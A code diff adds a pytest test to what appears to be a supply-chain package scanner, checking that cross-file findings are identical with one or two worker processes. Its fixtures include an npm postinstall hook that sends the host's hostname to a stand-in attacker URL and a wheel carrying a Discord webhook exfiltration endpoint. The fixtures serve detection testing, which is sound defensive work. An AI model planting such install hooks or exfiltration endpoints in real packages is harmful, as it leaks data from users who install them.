@@ -246,3 +246,53 @@ def test_code_appended_to_an_image_is_reported(tmp_path: Path) -> None:
     report = run_exam(wheel, Config())
     hidden = [f for f in report.findings if f.rule_id == "obf-image-payload"]
     assert [str(f.location).rsplit("/", 1)[-1] for f in hidden] == ["logo.png"]
+
+
+def _cross_file_rules(report: Report) -> set[tuple[str, str, str]]:
+    return {
+        (f.rule_id, f.location.path if f.location else "", str(f.evidence.details.get("scope")))
+        for f in flagged(report)
+    }
+
+
+def test_cross_file_findings_do_not_depend_on_worker_processes(tmp_path: Path) -> None:
+    """npm hook targets and package-scope risks need facts from several files; with --jobs
+    those files are analysed in other processes, and the report must not change."""
+    installer = (
+        "const https = require('https');\n"
+        "const os = require('os');\n"
+        f"https.get('{ATTACKER}/p?h=' + os.hostname());\n"
+    )
+    tgz = npm_tgz(
+        tmp_path,
+        "colour-util",
+        {"postinstall": "node lib/setup.js"},
+        {
+            "lib/setup.js": installer,
+            **{f"lib/pad{i}.js": "module.exports = 1;\n" for i in range(40)},
+        },
+    )
+    hook = "https://discord.com/api/webhooks/123456789012345678/" + "a1B2c3D4e5" * 4
+    wheel = write(
+        tmp_path / "helperlib-1.0-py3-none-any.whl",
+        zip_bytes(
+            {
+                "helperlib/__init__.py": f"HOOK = '{hook}'\n",
+                **{f"helperlib/m{i}.py": "X = 1\n" for i in range(40)},
+                "helperlib/net.py": "import requests\n\ndef send(d):\n    requests.post(URL, d)\n",
+            }
+        ),
+    )
+    for target, expected in (
+        (tgz, ("thr-system-recon", "package/lib/setup.js")),
+        (wheel, ("thr-exfil-endpoint", "helperlib/__init__.py")),
+    ):
+        serial = run_exam(target, Config(jobs=1))
+        parallel = run_exam(target, Config(jobs=2))
+        found = _cross_file_rules(serial)
+        assert expected in {(rule, path) for rule, path, _ in found}
+        assert found == _cross_file_rules(parallel)
+        options = RenderOptions()
+        assert (
+            to_document(serial, options)["findings"] == to_document(parallel, options)["findings"]
+        )
